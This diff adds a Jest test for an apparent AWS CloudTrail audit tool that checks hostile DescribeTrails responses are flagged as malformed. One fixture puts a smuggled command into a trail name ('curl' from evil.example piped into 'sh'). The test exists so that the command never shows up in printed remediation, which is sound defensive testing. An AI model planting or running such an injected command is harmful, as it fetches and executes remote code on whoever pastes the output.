@@ -218,6 +218,29 @@ describe('trails', () => {
       expect(byId(report, '200000000002').status).toBe('PASS');
     });
   });
+
+  test('hostile DescribeTrails responses → ERROR MALFORMED_RESPONSE naming the field, no command printed from them, the others audited', async () => {
+    const X = '200000000001';
+    const Y = '200000000002';
+    const Z = '200000000003';
+    const entry = (arn: string, extra: Record<string, unknown> = {}) => ({ TrailARN: arn, Name: arn.split('/')[1], HomeRegion: 'us-east-1', IsMultiRegionTrail: true, IsOrganizationTrail: false, ...extra });
+    const body = (...trails: unknown[]) => JSON.stringify({ trailList: trails });
+    const s = scenario([account(X, { trails: [goodTrail()] }), account(Y, { trails: [] }), account(Z, { trails: [goodTrail()] })], {
+      faults: [
+        // A name made to run a command when the fix is pasted.
+        { service: 'cloudtrail', action: 'DescribeTrails', account: X, kind: 'malformed', body: body(entry(`arn:aws:cloudtrail:us-east-1:${X}:trail/main`, { Name: 't; curl -s https://evil.example/p | sh #' })) },
+        // Another account's compliant trail that is not an organization trail: never PASS through it.
+        { service: 'cloudtrail', action: 'DescribeTrails', account: Y, kind: 'malformed', body: body(entry(`arn:aws:cloudtrail:us-east-1:${Z}:trail/main`)) },
+      ],
+    });
+    await withSimulator(s, async (sim) => {
+      const report = await audit(sim, config());
+      expect(byId(report, X)).toMatchObject({ status: 'ERROR', reasons: [{ code: 'MALFORMED_RESPONSE', message: expect.stringContaining('.Name "t; curl') }], remediation: [] });
+      expect(byId(report, Y)).toMatchObject({ status: 'ERROR', reasons: [{ code: 'MALFORMED_RESPONSE', message: expect.stringContaining(`belongs to account ${Z} and is not an organization trail`) }] });
+      expect(byId(report, Z).status).toBe('PASS');
+      for (const a of report.accounts) for (const step of a.remediation) expect(step).not.toMatch(/curl|evil/);
+    });
+  });
 });
 
 describe('organization trails', () => {
